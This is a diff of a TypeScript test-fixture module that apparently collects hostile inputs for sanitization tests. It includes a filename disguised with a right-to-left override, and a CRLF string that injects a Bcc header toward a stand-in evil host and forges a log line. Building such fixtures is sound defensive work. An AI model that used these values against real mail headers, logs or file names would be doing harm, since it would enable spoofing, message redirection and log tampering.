@@ -20,8 +20,6 @@ export const poisons = {
   direction: '\u202Efdp.exe\u202C',
 } as const;
 
-export type PoisonKind = keyof typeof poisons;
-
 /** All kinds on one line, behind the name of the door they come by. */
 export const poisonOf = (door: string): string => `${Object.values(poisons).join(' ')} via ${door}`;
 
@@ -29,7 +27,7 @@ export const poisonOf = (door: string): string => `${Object.values(poisons).join
 export const newLines = `\r\nBcc: alla@${evilHost}\r\n{"level":60,"message":"påhittad rad"}`;
 
 /** As somebody sees it: what turns the direction is not seen, and blanks are one. */
-export const seen = (words: string): string =>
+const seen = (words: string): string =>
   words
     .replace(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/g, '')
     .replace(/\s+/g, ' ')
